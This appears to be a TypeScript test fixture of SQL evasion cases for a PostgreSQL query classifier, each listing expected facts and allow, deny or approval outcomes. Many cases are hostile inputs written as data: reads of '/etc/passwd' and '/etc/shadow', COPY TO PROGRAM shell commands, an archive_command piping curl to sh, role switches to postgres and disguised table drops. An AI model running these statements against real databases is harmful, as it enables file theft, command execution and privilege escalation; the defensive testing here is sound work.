// SQL written to slip past a classifier, with the facts it must produce and the decisions it must get.
//
// Every case asserts facts (that would be wrong if the classifier missed the trick) and the decision
// under `read-only`; many also name decisions under other packs and under two custom policies:
//   CUSTOM    default allow + no-admin, unqualified names pinned to public, table/function/approval rules;
//   ALLOWLIST default deny, allow only reads of public.* (an unqualified name is not public.*).
import type { SqlFlag, SqlKind } from '../../../sidecar/protocols/postgres/sql-facts.ts';
import type { SqlPolicyJson } from '../../../sidecar/policy/sql-rules.ts';

export type Outcome = 'allow' | 'deny' | 'require-approval';

export interface ExpectedFacts {
  readonly kind?: SqlKind;
  readonly command?: string;
  /** Every listed command appears in `commands`. */
  readonly commands?: readonly string[];
  /** `schema.name:access` or `name:access` (unqualified); each must be present. */
  readonly tables?: readonly string[];
  /** Table names that must NOT be present (CTE names, say). */
  readonly noTables?: readonly string[];
  readonly functions?: readonly string[];
  readonly flags?: readonly SqlFlag[];
  readonly noFlags?: readonly SqlFlag[];
  readonly hasWhere?: boolean | null;
}

export interface EvasionCase {
  readonly name: string;
  readonly sql: string;
  readonly why: string;
  /** The message must fail to parse (then facts are not checked). */
  readonly parseError?: true;
  /** How many statements the message holds. */
  readonly statements?: number;
  /** Which statement `facts` describes (default 0). */
  readonly at?: number;
  readonly facts?: ExpectedFacts;
  readonly readOnly: Outcome;
  /** Decisions under { default: 'allow', packs: [name] }. */
  readonly packs?: Readonly<Record<string, Outcome>>;
  readonly custom?: Outcome;
  readonly allowlist?: Outcome;
  /** A PREPARE the session saw before this statement (for EXECUTE cases). */
  readonly prepared?: string;
}

export const CUSTOM: SqlPolicyJson = {
  default: 'allow',
  unqualifiedSchema: 'public',
  packs: ['no-admin'],
  rules: [
    { id: 'protect-users', action: 'deny', reason: 'protected-table', match: { tables: ['public.users'], access: ['write'] } },
    { id: 'no-billing', action: 'deny', reason: 'protected-table', match: { tables: ['billing.*'] } },
    { id: 'no-sleep', action: 'deny', reason: 'no-sleep', match: { functions: ['pg_sleep*'] } },
    { id: 'approve-order-deletes', action: 'require-approval', match: { commands: ['DELETE'], tables: ['orders'] }, approval: { groups: ['db-approvers'] } },
  ],
};

export const ALLOWLIST: SqlPolicyJson = {
  default: 'deny',
  rules: [{ id: 'reads-public', action: 'allow', match: { kinds: ['read'], tables: ['public.*'] } }],
};

export const EVASIONS: readonly EvasionCase[] = [
  // --- comments, case, whitespace --------------------------------------------------------------
  { name: 'comment splitting a keyword', sql: 'DEL/**/ETE FROM users', why: 'not valid SQL: refused, not guessed', parseError: true, readOnly: 'deny', custom: 'deny' },
  { name: 'comment between keywords', sql: 'DELETE/**/FROM users', why: 'a comment is whitespace', facts: { kind: 'write', command: 'DELETE', tables: ['users:write'], flags: ['deleteWithoutWhere'], hasWhere: false }, readOnly: 'deny', packs: { 'no-delete-without-where': 'deny' }, custom: 'deny' },
  { name: 'nested block comments', sql: 'DELETE /* a /* b */ still comment */ FROM t WHERE id = 1', why: 'PostgreSQL comments nest', facts: { command: 'DELETE', tables: ['t:write'], hasWhere: true }, readOnly: 'deny', packs: { 'no-delete-without-where': 'allow' } },
  { name: 'comment that looks like a SELECT', sql: '/* SELECT */ DELETE FROM t WHERE id = 1', why: 'the comment is not the statement', facts: { kind: 'write' }, readOnly: 'deny' },
  { name: 'line comment hiding nothing', sql: '-- SELECT 1\nUPDATE t SET a = 1', why: 'the UPDATE is on the next line', facts: { command: 'UPDATE', flags: ['updateWithoutWhere'] }, readOnly: 'deny', packs: { 'no-update-without-where': 'deny' } },
  { name: 'case games', sql: 'dElEtE fRoM PUBLIC.Users WHERE id = 1', why: 'unquoted names fold to lowercase', facts: { command: 'DELETE', tables: ['public.users:write'] }, readOnly: 'deny', custom: 'deny' },
  { name: 'tabs and newlines', sql: 'DELETE\tFROM\n\tpublic.users\r\nWHERE id = 1', why: 'whitespace of any kind', facts: { tables: ['public.users:write'] }, readOnly: 'deny', custom: 'deny' },
  { name: 'full-width semicolon', sql: 'SELECT 1；DELETE FROM t', why: 'U+FF1B is not a separator: the parser refuses it', parseError: true, readOnly: 'deny' },
  // --- identifiers -----------------------------------------------------------------------------
  { name: 'quoted identifier with other case', sql: 'DELETE FROM public."Users" WHERE id = 1', why: '"Users" is a different table from users', facts: { tables: ['public.Users:write'] }, readOnly: 'deny' },
  { name: 'quoted identifier, same case', sql: 'DELETE FROM "public"."users" WHERE id = 1', why: 'quoting a lowercase name changes nothing', facts: { tables: ['public.users:write'] }, readOnly: 'deny', custom: 'deny' },
  { name: 'Unicode escape identifier', sql: 'UPDATE public.U&"\\0075sers" SET a = 1 WHERE id = 1', why: 'U&"\\0075sers" is users', facts: { tables: ['public.users:write'] }, readOnly: 'deny', custom: 'deny' },
  { name: 'Unicode escape with UESCAPE', sql: "UPDATE public.U&\"!0075sers\" UESCAPE '!' SET a = 1 WHERE id = 1", why: 'a custom escape character', facts: { tables: ['public.users:write'] }, readOnly: 'deny', custom: 'deny' },
  { name: 'unqualified name vs public.*', sql: 'SELECT * FROM users', why: 'search_path decides the schema: an allow for public.* does not cover it', facts: { tables: ['users:read'] }, readOnly: 'allow', allowlist: 'deny' },
  { name: 'qualified read of public', sql: 'SELECT * FROM public.users', why: 'the allow-list covers it', facts: { tables: ['public.users:read'] }, readOnly: 'allow', allowlist: 'allow' },
  { name: 'allow-list does not widen to a second schema', sql: 'SELECT * FROM public.users JOIN billing.cards c ON true', why: 'every table must match an allow', facts: { tables: ['public.users:read', 'billing.cards:read'] }, readOnly: 'allow', allowlist: 'deny', custom: 'deny' },
  { name: 'search_path change then unqualified write', sql: 'SET search_path = evil, public; DELETE FROM users WHERE id = 1', why: 'CUSTOM pins unqualified names to public, so it refuses the search_path change', statements: 2, at: 1, facts: { tables: ['users:write'] }, readOnly: 'deny', custom: 'deny' },
  { name: 'pinned schema resolves unqualified names', sql: 'DELETE FROM cards WHERE id = 1', why: 'CUSTOM pins public, so cards is public.cards, not billing.cards', facts: { tables: ['cards:write'] }, readOnly: 'deny' },
  { name: 'pg_temp shadowing', sql: 'CREATE TEMP TABLE users (id int)', why: 'a temp table shadows public.users for unqualified names', facts: { kind: 'ddl', tables: ['users:write'] }, readOnly: 'deny', packs: { 'no-ddl': 'deny' } },
  // --- strings and quoting ---------------------------------------------------------------------
  { name: 'statement inside dollar quotes', sql: 'SELECT $$; DELETE FROM t; $$', why: 'it is a string', statements: 1, facts: { kind: 'read', noTables: ['t'] }, readOnly: 'allow' },
  { name: 'tagged dollar quote containing $$', sql: 'SELECT $a$ $$ $a$; DELETE FROM t', why: 'the tag ends the string, then a DELETE', statements: 2, at: 1, facts: { command: 'DELETE' }, readOnly: 'deny' },
  { name: 'backslash in a standard string', sql: String.raw`SELECT 'a\'; DELETE FROM t; --'`, why: "standard_conforming_strings: 'a\\' ends the string", statements: 2, at: 1, facts: { command: 'DELETE' }, readOnly: 'deny' },
  { name: 'escaped quote in an E string', sql: String.raw`SELECT E'it\'s'; DELETE FROM t`, why: "E'…' takes backslash escapes", statements: 2, at: 1, facts: { command: 'DELETE' }, readOnly: 'deny' },
  { name: 'E string swallowing a DELETE', sql: String.raw`SELECT E'\'; DELETE FROM t; --'`, why: "in an E string \\' does not end it", statements: 1, facts: { kind: 'read' }, readOnly: 'allow' },
  { name: 'standard_conforming_strings off', sql: 'SET standard_conforming_strings = off', why: 'later text would be lexed differently by the server', facts: { flags: ['parserDivergence'] }, readOnly: 'deny', custom: 'deny', packs: { 'no-ddl': 'deny' } },
  { name: 'client_encoding SJIS', sql: "SET client_encoding = 'SJIS'", why: 'SJIS multi-byte characters can contain a quote byte', facts: { flags: ['parserDivergence'] }, readOnly: 'deny', custom: 'deny' },
  { name: 'SET NAMES UTF8', sql: "SET NAMES 'UTF8'", why: 'harmless', facts: { noFlags: ['parserDivergence'] }, readOnly: 'allow', custom: 'allow' },
  { name: 'string continuation', sql: "SELECT 'a'\n'b'", why: 'one literal over two lines', facts: { kind: 'read' }, readOnly: 'allow' },
  // --- several statements ----------------------------------------------------------------------
  { name: 'harmless first statement', sql: 'SELECT 1; DROP TABLE x', why: 'the message is refused whole', statements: 2, at: 1, facts: { kind: 'ddl', command: 'DROP_TABLE', tables: ['x:write'] }, readOnly: 'deny', packs: { 'no-ddl': 'deny' } },
  { name: 'transaction wrapping a write', sql: 'BEGIN; SELECT * FROM t; COMMIT; DELETE FROM x', why: 'the last statement is a write', statements: 4, at: 3, facts: { kind: 'write' }, readOnly: 'deny' },
  { name: 'empty statements', sql: ';;;', why: 'nothing to run', statements: 0, readOnly: 'allow' },
  // --- hidden DML ------------------------------------------------------------------------------
  { name: 'DML in a CTE', sql: 'WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d', why: 'a data-modifying CTE', facts: { kind: 'write', command: 'SELECT', commands: ['DELETE'], tables: ['users:write'], noTables: ['d'], flags: ['writesInCte', 'deleteWithoutWhere'] }, readOnly: 'deny', packs: { 'no-delete-without-where': 'deny' } },
  { name: 'DML in a nested CTE', sql: 'SELECT * FROM (WITH u AS (UPDATE public.users SET a = 1 WHERE id = 2 RETURNING id) SELECT id FROM u) s', why: 'CTE inside a subquery', facts: { kind: 'write', tables: ['public.users:write'], flags: ['writesInCte'] }, readOnly: 'deny', custom: 'deny' },
  { name: 'CTE named like its target', sql: 'WITH t AS (SELECT 1) DELETE FROM t', why: 'a DML target is always a real table', facts: { tables: ['t:write'] }, readOnly: 'deny' },
  { name: 'CTE shadowing a table name', sql: 'WITH RECURSIVE users AS (SELECT 1 UNION SELECT * FROM users) SELECT * FROM users', why: 'a recursive CTE reference is not the table', facts: { noTables: ['users'] }, readOnly: 'allow' },
  { name: 'non-recursive CTE reading the real table', sql: 'WITH users AS (SELECT * FROM public.users) SELECT * FROM users', why: 'inside its own body the name is the table', facts: { tables: ['public.users:read'] }, readOnly: 'allow', allowlist: 'allow' },
  { name: 'EXPLAIN ANALYZE executes', sql: 'EXPLAIN ANALYZE DELETE FROM orders', why: 'ANALYZE runs the statement', facts: { kind: 'write', command: 'DELETE', flags: ['explainAnalyze'] }, readOnly: 'deny', custom: 'require-approval' },
  { name: 'EXPLAIN (ANALYZE, FORMAT JSON)', sql: 'EXPLAIN (ANALYZE, FORMAT JSON) UPDATE t SET a = 1', why: 'option-list spelling', facts: { kind: 'write', flags: ['explainAnalyze', 'updateWithoutWhere'] }, readOnly: 'deny', packs: { 'no-update-without-where': 'deny' } },
  { name: 'EXPLAIN without ANALYZE', sql: 'EXPLAIN DELETE FROM orders', why: 'only plans: nothing is deleted', facts: { kind: 'utility', command: 'EXPLAIN', noFlags: ['deleteWithoutWhere'] }, readOnly: 'allow', custom: 'allow' },
  { name: 'EXPLAIN (ANALYZE false)', sql: 'EXPLAIN (ANALYZE false) DELETE FROM t', why: 'ANALYZE off does not execute', facts: { kind: 'utility' }, readOnly: 'allow' },
  { name: 'PREPARE of a DELETE', sql: 'PREPARE p(int) AS DELETE FROM orders WHERE id = $1', why: 'classified as the inner statement', facts: { kind: 'write', command: 'DELETE', hasWhere: true }, readOnly: 'deny', custom: 'require-approval' },
  { name: 'EXECUTE of an unknown statement', sql: 'EXECUTE p(1)', why: 'nothing to judge: refused even under default allow', facts: { kind: 'admin', flags: ['unresolvedExecute'] }, readOnly: 'deny', custom: 'deny', packs: { 'no-ddl': 'deny' } },
  { name: 'EXECUTE of a prepared DELETE', sql: 'EXECUTE p(1)', prepared: 'PREPARE p(int) AS DELETE FROM orders WHERE id = $1', why: 'the registry resolves it to the DELETE', facts: { kind: 'write', command: 'DELETE', tables: ['orders:write'], noFlags: ['unresolvedExecute'] }, readOnly: 'deny', custom: 'require-approval', packs: { 'no-ddl': 'allow' } },
  { name: 'EXECUTE of a prepared SELECT', sql: 'EXECUTE q', prepared: 'PREPARE q AS SELECT * FROM public.users', why: 'resolves to a read', facts: { kind: 'read', command: 'SELECT' }, readOnly: 'allow', custom: 'allow' },
  { name: 'CREATE RULE hiding a write', sql: 'CREATE RULE r AS ON SELECT TO t DO INSTEAD DELETE FROM public.users', why: 'a later SELECT would delete', facts: { kind: 'ddl', commands: ['DELETE'], tables: ['public.users:write'] }, readOnly: 'deny', packs: { 'no-ddl': 'deny' }, custom: 'deny' },
  { name: 'trigger running a function', sql: 'CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION wipe()', why: 'the trigger function runs later', facts: { kind: 'ddl', functions: ['wipe'], tables: ['t:write'] }, readOnly: 'deny', packs: { 'no-ddl': 'deny' } },
  { name: 'view over a server file', sql: "CREATE VIEW v AS SELECT pg_read_file('/etc/passwd')", why: 'the view would read the file', facts: { kind: 'admin', flags: ['serverFileAccess'] }, readOnly: 'deny', packs: { 'no-server-file-access': 'deny' } },
  { name: 'SQL function body', sql: 'CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ DELETE FROM public.users $$', why: 'the body is parsed too', facts: { kind: 'ddl', commands: ['DELETE'], tables: ['public.users:write'], flags: ['dynamicCode'] }, readOnly: 'deny', custom: 'deny', packs: { 'no-dynamic-code': 'deny' } },
  { name: 'BEGIN ATOMIC body', sql: 'CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM public.users; SELECT 1; END', why: 'semicolons inside the body are not separators', statements: 1, facts: { kind: 'ddl', tables: ['public.users:write'] }, readOnly: 'deny', custom: 'deny' },
  { name: 'C function', sql: "CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'evil.so', 'f'", why: 'loads a shared library', facts: { kind: 'admin' }, readOnly: 'deny', packs: { 'no-admin': 'deny' } },
  { name: 'SELECT INTO', sql: 'SELECT * INTO stolen FROM public.users', why: 'creates a table', facts: { kind: 'ddl', command: 'SELECT_INTO', tables: ['stolen:write', 'public.users:read'], flags: ['selectInto'] }, readOnly: 'deny', packs: { 'no-ddl': 'deny' } },
  { name: 'CREATE TABLE AS', sql: 'CREATE TABLE stolen AS SELECT * FROM public.users', why: 'creates a table', facts: { kind: 'ddl', command: 'CREATE_TABLE_AS', tables: ['stolen:write'] }, readOnly: 'deny' },
  { name: 'COPY of a DELETE', sql: 'COPY (DELETE FROM orders RETURNING *) TO STDOUT', why: 'COPY runs the DELETE', facts: { kind: 'write', command: 'COPY_TO', commands: ['DELETE'], tables: ['orders:write'] }, readOnly: 'deny', custom: 'require-approval', packs: { 'no-delete-without-where': 'deny' } },
  { name: 'MERGE deleting everything', sql: 'MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE', why: 'ON true matches every row', facts: { kind: 'write', flags: ['deleteWithoutWhere', 'trivialWhere'] }, readOnly: 'deny', packs: { 'no-delete-without-where': 'deny' } },
  { name: 'trivially true WHERE', sql: "DELETE FROM t WHERE 'x' = 'x'", why: 'constant-true', facts: { hasWhere: false, flags: ['trivialWhere'] }, readOnly: 'deny', packs: { 'no-delete-without-where': 'deny' } },
  { name: 'trivially true cast', sql: "UPDATE t SET a = 1 WHERE 't'::boolean", why: "'t'::boolean is true", facts: { hasWhere: false }, readOnly: 'deny', packs: { 'no-update-without-where': 'deny' } },
  { name: 'real WHERE stays allowed', sql: 'UPDATE t SET a = 1 WHERE id = 3 AND 1 = 1', why: 'AND with a real condition', facts: { hasWhere: true, noFlags: ['updateWithoutWhere'] }, readOnly: 'deny', packs: { 'no-update-without-where': 'allow' } },
  { name: 'DECLARE cursor FOR UPDATE', sql: 'DECLARE c CURSOR FOR SELECT * FROM t FOR UPDATE', why: 'locks rows as it fetches', facts: { kind: 'read', flags: ['rowLocks'], tables: ['t:lock'] }, readOnly: 'deny' },
  { name: 'SELECT FOR SHARE', sql: 'SELECT * FROM t WHERE id = 1 FOR SHARE', why: 'a row lock', facts: { flags: ['rowLocks'] }, readOnly: 'deny' },
  // --- functions with side effects --------------------------------------------------------------
  { name: 'lo_export', sql: "SELECT lo_export(16400, '/tmp/dump')", why: 'writes a server file', facts: { kind: 'admin', functions: ['lo_export'], flags: ['serverFileAccess'] }, readOnly: 'deny', packs: { 'no-server-file-access': 'deny' } },
  { name: 'lo_import', sql: "SELECT lo_import('/etc/passwd')", why: 'reads a server file into a large object', facts: { flags: ['serverFileAccess', 'largeObjectWrite'] }, readOnly: 'deny', packs: { 'no-server-file-access': 'deny' } },
  { name: 'lo_unlink', sql: 'SELECT lo_unlink(16400)', why: 'deletes a large object', facts: { kind: 'write', flags: ['largeObjectWrite'] }, readOnly: 'deny', packs: { 'no-server-file-access': 'allow' } },
  { name: 'schema-qualified pg_read_file', sql: "SELECT pg_catalog.pg_read_file('/etc/passwd')", why: 'qualification does not hide it', facts: { functions: ['pg_catalog.pg_read_file'], flags: ['serverFileAccess'] }, readOnly: 'deny', packs: { 'no-server-file-access': 'deny' } },
  { name: 'quoted function name', sql: 'SELECT "pg_read_binary_file"(\'/etc/shadow\')', why: 'quoting does not hide it', facts: { flags: ['serverFileAccess'] }, readOnly: 'deny', packs: { 'no-server-file-access': 'deny' } },
  { name: 'file function in FROM', sql: "SELECT * FROM pg_ls_dir('/var/lib/postgresql') AS f", why: 'a set-returning function in FROM', facts: { flags: ['serverFileAccess'] }, readOnly: 'deny', packs: { 'no-server-file-access': 'deny' } },
  { name: 'attribute notation call', sql: "SELECT ('/etc/passwd'::text).pg_read_file", why: 'x.f can mean f(x)', facts: { functions: ['pg_read_file'], flags: ['serverFileAccess'] }, readOnly: 'deny', packs: { 'no-server-file-access': 'deny' } },
  { name: 'pg_stat_file in a subquery', sql: "SELECT (SELECT size FROM pg_stat_file('/etc/passwd'))", why: 'nested', facts: { flags: ['serverFileAccess'] }, readOnly: 'deny', packs: { 'no-server-file-access': 'deny' } },
  { name: 'dblink_exec', sql: "SELECT dblink_exec('dbname=postgres', 'DROP TABLE public.users')", why: 'runs SQL elsewhere; the SQL is classified too', facts: { kind: 'admin', commands: ['DROP_TABLE'], tables: ['public.users:write'], flags: ['remoteAccess', 'dynamicCode'] }, readOnly: 'deny', packs: { 'no-server-file-access': 'deny', 'no-dynamic-code': 'deny' }, custom: 'deny' },
  { name: "set_config('role')", sql: "SELECT set_config('role', 'postgres', false)", why: 'a role switch in a SELECT', facts: { kind: 'dcl', flags: ['roleChange'] }, readOnly: 'deny', packs: { 'no-role-change': 'deny' } },
  { name: 'set_config with a computed name', sql: "SELECT set_config(name, 'off', false) FROM pg_settings WHERE name LIKE 'default_tr%'", why: 'could be any setting: refused by every policy', facts: { flags: ['roleChange', 'readWriteOverride'] }, readOnly: 'deny', custom: 'deny' },
  { name: 'query_to_xml running a DELETE', sql: "SELECT query_to_xml('delete from orders returning *', true, false, '')", why: 'the string is SQL that executes', facts: { kind: 'write', commands: ['DELETE'], tables: ['orders:write'], flags: ['dynamicCode'] }, readOnly: 'deny', custom: 'require-approval', packs: { 'no-dynamic-code': 'deny' } },
  { name: 'query_to_xml with computed SQL', sql: "SELECT query_to_xml(current_setting('my.q'), true, false, '')", why: 'unknowable SQL: admin', facts: { kind: 'admin', flags: ['dynamicCode'] }, readOnly: 'deny', custom: 'deny' },
  { name: 'query_to_xml nesting', sql: "SELECT query_to_xml('select query_to_xml(''delete from t'', true, false, '''')', true, false, '')", why: 'SQL in SQL in SQL', facts: { kind: 'write', commands: ['DELETE'] }, readOnly: 'deny' },
  { name: 'table_to_xml reads a table by name', sql: "SELECT table_to_xml('billing.cards', true, false, '')", why: 'the table is a string argument', facts: { tables: ['billing.cards:read'] }, readOnly: 'allow', custom: 'deny' },
  { name: 'ts_stat runs a query', sql: "SELECT * FROM ts_stat('SELECT to_tsvector(body) FROM billing.notes')", why: 'ts_stat executes its argument', facts: { tables: ['billing.notes:read'], flags: ['dynamicCode'] }, readOnly: 'allow', custom: 'deny' },
  { name: 'xpath does not run SQL', sql: "SELECT xpath('/a/text()', '<a>x</a>'::xml)", why: 'an XPath string is not SQL', facts: { kind: 'read', noFlags: ['dynamicCode'] }, readOnly: 'allow' },
  { name: 'nextval in VALUES', sql: "VALUES (nextval('public.order_seq'))", why: 'advances a sequence', facts: { kind: 'write', tables: ['public.order_seq:write'], flags: ['sequenceWrite'] }, readOnly: 'deny' },
  { name: 'nextval inside coalesce', sql: "SELECT coalesce((SELECT setval('s', 1)), 0)", why: 'nested sequence write', facts: { kind: 'write', flags: ['sequenceWrite'] }, readOnly: 'deny' },
  { name: 'admin call in LATERAL', sql: 'SELECT * FROM t, LATERAL (SELECT pg_terminate_backend(pid) FROM pg_stat_activity) x', why: 'LATERAL subquery', facts: { kind: 'admin', functions: ['pg_terminate_backend'], flags: ['adminFunction'] }, readOnly: 'deny', packs: { 'no-admin': 'deny' } },
  { name: 'admin call in RETURNING', sql: 'INSERT INTO t VALUES (1) RETURNING pg_cancel_backend(42)', why: 'RETURNING is walked', facts: { kind: 'admin', functions: ['pg_cancel_backend'] }, readOnly: 'deny', packs: { 'no-admin': 'deny' } },
  { name: 'file read in ON CONFLICT', sql: "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET v = pg_read_file('/etc/hosts')", why: 'ON CONFLICT is walked', facts: { flags: ['serverFileAccess'] }, readOnly: 'deny', packs: { 'no-server-file-access': 'deny' } },
  { name: 'long sleep', sql: 'SELECT pg_sleep(86400)', why: 'ties up a backend; a function rule can refuse it', facts: { kind: 'read', functions: ['pg_sleep'], flags: ['sleep'] }, readOnly: 'allow', custom: 'deny' },
  { name: 'qualified uppercase sleep', sql: 'SELECT PG_CATALOG.PG_SLEEP_FOR(\'1 day\')', why: 'case and schema do not hide it', facts: { functions: ['pg_catalog.pg_sleep_for'] }, readOnly: 'allow', custom: 'deny' },
  // --- roles and settings ----------------------------------------------------------------------
  { name: 'SET ROLE', sql: 'SET ROLE postgres', why: 'role switch', facts: { kind: 'dcl', flags: ['roleChange'] }, readOnly: 'deny', packs: { 'no-role-change': 'deny' } },
  { name: 'SET SESSION ROLE', sql: 'SET SESSION ROLE postgres', why: 'SESSION spelling', facts: { flags: ['roleChange'] }, readOnly: 'deny', packs: { 'no-role-change': 'deny' } },
  { name: 'SET SESSION AUTHORIZATION', sql: "SET SESSION AUTHORIZATION 'postgres'", why: 'superuser-only, but refuse it early', facts: { kind: 'dcl', flags: ['roleChange'] }, readOnly: 'deny', packs: { 'no-role-change': 'deny' } },
  { name: 'RESET ROLE', sql: 'RESET ROLE', why: 'drops a role the sidecar may have set', facts: { flags: ['roleChange'] }, readOnly: 'deny', packs: { 'no-role-change': 'deny' } },
  { name: 'RESET SESSION AUTHORIZATION', sql: 'RESET SESSION AUTHORIZATION', why: 'the same', facts: { flags: ['roleChange'] }, readOnly: 'deny', packs: { 'no-role-change': 'deny' } },
  { name: 'ALTER ROLE … SET role', sql: "ALTER ROLE me SET role = 'postgres'", why: 'role default for later sessions', facts: { kind: 'dcl', command: 'ALTER_ROLE' }, readOnly: 'deny', packs: { 'no-role-change': 'deny' } },
  { name: 'GRANT a role', sql: 'GRANT pg_write_server_files TO me', why: 'role membership', facts: { kind: 'dcl', command: 'GRANT_ROLE' }, readOnly: 'deny', packs: { 'no-role-change': 'deny', 'no-dcl': 'deny' } },
  { name: 'BEGIN READ WRITE', sql: 'BEGIN ISOLATION LEVEL SERIALIZABLE, READ WRITE', why: 'undoes default_transaction_read_only', facts: { kind: 'transaction', flags: ['readWriteOverride'] }, readOnly: 'deny' },
  { name: 'START TRANSACTION READ WRITE', sql: 'START TRANSACTION READ WRITE', why: 'the same', facts: { flags: ['readWriteOverride'] }, readOnly: 'deny' },
  { name: 'BEGIN READ ONLY', sql: 'BEGIN READ ONLY', why: 'harmless', facts: { noFlags: ['readWriteOverride'] }, readOnly: 'allow' },
  { name: 'SET TRANSACTION READ WRITE', sql: 'SET TRANSACTION READ WRITE', why: 'undoes read-only for this transaction', facts: { flags: ['readWriteOverride'] }, readOnly: 'deny' },
  { name: 'default_transaction_read_only TO DEFAULT', sql: 'SET default_transaction_read_only TO DEFAULT', why: 'back to the role default (off)', facts: { flags: ['readWriteOverride'] }, readOnly: 'deny' },
  { name: 'set_config of read-only via a number', sql: "SELECT pg_catalog.set_config('default_transaction_read_only', '0', true)", why: "'0' is false", facts: { flags: ['readWriteOverride'] }, readOnly: 'deny' },
  { name: 'transaction_read_only on', sql: 'SET transaction_read_only = on', why: 'makes things stricter', facts: { noFlags: ['readWriteOverride'] }, readOnly: 'allow' },
  { name: 'DISCARD ALL', sql: 'DISCARD ALL', why: 'RESET ALL + SET SESSION AUTHORIZATION DEFAULT', facts: { flags: ['readWriteOverride', 'roleChange'] }, readOnly: 'deny', packs: { 'no-role-change': 'deny' } },
  { name: 'session_replication_role', sql: "SET session_replication_role = 'replica'", why: 'disables triggers and FK checks', facts: { kind: 'admin' }, readOnly: 'deny', packs: { 'no-admin': 'deny' } },
  // --- admin and utilities ---------------------------------------------------------------------
  { name: 'ALTER SYSTEM', sql: "ALTER SYSTEM SET archive_command = 'curl x | sh'", why: 'server config and code execution', facts: { kind: 'admin', command: 'ALTER_SYSTEM' }, readOnly: 'deny', packs: { 'no-admin': 'deny' } },
  { name: 'DO block', sql: "DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$", why: 'invisible dynamic SQL', facts: { kind: 'admin', command: 'DO', flags: ['dynamicCode'] }, readOnly: 'deny', packs: { 'no-admin': 'deny', 'no-dynamic-code': 'deny' } },
  { name: 'CALL', sql: 'CALL public.nightly_cleanup()', why: 'a procedure can commit and do anything', facts: { kind: 'admin', command: 'CALL', functions: ['public.nightly_cleanup'] }, readOnly: 'deny', packs: { 'no-admin': 'deny' } },
  { name: 'COPY TO PROGRAM', sql: "COPY (SELECT 1) TO PROGRAM 'sh -c id'", why: 'runs a shell command', facts: { kind: 'admin', flags: ['copyProgram'] }, readOnly: 'deny', packs: { 'no-admin': 'deny', 'no-server-file-access': 'deny' } },
  { name: 'COPY to a server file', sql: "COPY public.users TO '/tmp/users.csv'", why: 'writes a server file', facts: { kind: 'admin', flags: ['serverFileAccess'] }, readOnly: 'deny', packs: { 'no-server-file-access': 'deny' } },
  { name: '\\copy is COPY FROM STDIN', sql: 'COPY public.users (id, name) FROM STDIN', why: "psql's \\copy: a client-side write", facts: { kind: 'write', command: 'COPY_FROM', tables: ['public.users:write'] }, readOnly: 'deny', custom: 'deny', packs: { 'no-server-file-access': 'allow' } },
  { name: 'COPY TO STDOUT', sql: 'COPY public.users TO STDOUT', why: 'a read', facts: { kind: 'read', command: 'COPY_TO', tables: ['public.users:read'] }, readOnly: 'allow', custom: 'allow' },
  { name: 'LOCK TABLE', sql: 'LOCK TABLE public.users IN ACCESS EXCLUSIVE MODE', why: 'blocks everyone', facts: { kind: 'write', command: 'LOCK', tables: ['public.users:lock'], flags: ['rowLocks'] }, readOnly: 'deny' },
  { name: 'TRUNCATE', sql: 'TRUNCATE public.users, orders', why: 'deletes every row', facts: { kind: 'write', command: 'TRUNCATE', tables: ['public.users:write', 'orders:write'] }, readOnly: 'deny', packs: { 'no-delete-without-where': 'deny' }, custom: 'deny' },
  { name: 'VACUUM FULL', sql: 'VACUUM FULL public.users', why: 'exclusive lock, rewrite', facts: { kind: 'admin', command: 'VACUUM' }, readOnly: 'deny', packs: { 'no-admin': 'deny' } },
  { name: 'CREATE EXTENSION', sql: 'CREATE EXTENSION IF NOT EXISTS dblink', why: 'loads code', facts: { kind: 'admin', command: 'CREATE_EXTENSION' }, readOnly: 'deny', packs: { 'no-admin': 'deny' } },
  { name: 'CHECKPOINT', sql: 'CHECKPOINT', why: 'server I/O storm', facts: { kind: 'admin' }, readOnly: 'deny', packs: { 'no-admin': 'deny' } },
  { name: 'LISTEN', sql: 'LISTEN jobs', why: 'harmless', facts: { kind: 'utility' }, readOnly: 'allow' },
  { name: 'TABLE shorthand', sql: 'TABLE public.users', why: 'TABLE t is SELECT * FROM t', facts: { kind: 'read', tables: ['public.users:read'] }, readOnly: 'allow', allowlist: 'allow' },
  { name: 'redundant parentheses', sql: `SELECT ${'('.repeat(3000)}1${')'.repeat(3000)}`, why: 'parentheses leave no nodes: just SELECT 1', statements: 1, facts: { kind: 'read' }, readOnly: 'allow' },
  { name: 'deeply nested subqueries', sql: `SELECT ${'(SELECT '.repeat(1000)}1${')'.repeat(1000)}`, why: 'refused as too complex, not crashed', readOnly: 'deny', custom: 'deny' },
  { name: 'parser stack exhaustion', sql: `SELECT ${'(SELECT '.repeat(3000)}1${')'.repeat(3000)}`, why: 'the parser gives up: refused', readOnly: 'deny', custom: 'deny' },
  // --- red-team round 2: literal-sensitive options, WHERE that does not depend on the row ------
  { name: 'EXPLAIN with ANALYZE repeated', sql: 'EXPLAIN (ANALYZE false, ANALYZE) DELETE FROM t', why: 'PostgreSQL takes the last ANALYZE: it executes', facts: { kind: 'write', command: 'DELETE', flags: ['explainAnalyze', 'deleteWithoutWhere'] }, readOnly: 'deny', packs: { 'no-delete-without-where': 'deny' } },
  { name: 'EXPLAIN ANALYZE as a quoted string', sql: "EXPLAIN (ANALYZE 'on') DELETE FROM t WHERE id = 1", why: "'on' is a string literal the normalizer strips: never shared with ANALYZE 'off'", facts: { kind: 'write', flags: ['explainAnalyze'] }, readOnly: 'deny' },
  { name: 'EXPLAIN ANALYSE, British', sql: 'EXPLAIN (ANALYSE 1, FORMAT JSON) UPDATE t SET a = 1 WHERE id = 2', why: 'the same option', facts: { kind: 'write', flags: ['explainAnalyze'] }, readOnly: 'deny' },
  { name: "WHERE 'yes'", sql: "DELETE FROM t WHERE 'yes'", why: "a string that casts to true: refers to no column of t", facts: { hasWhere: false, flags: ['deleteWithoutWhere', 'trivialWhere'] }, readOnly: 'deny', packs: { 'no-delete-without-where': 'deny' } },
  { name: 'WHERE NOT false', sql: 'UPDATE t SET a = 1 WHERE NOT false', why: 'constant', facts: { hasWhere: false, flags: ['updateWithoutWhere'] }, readOnly: 'deny', packs: { 'no-update-without-where': 'deny' } },
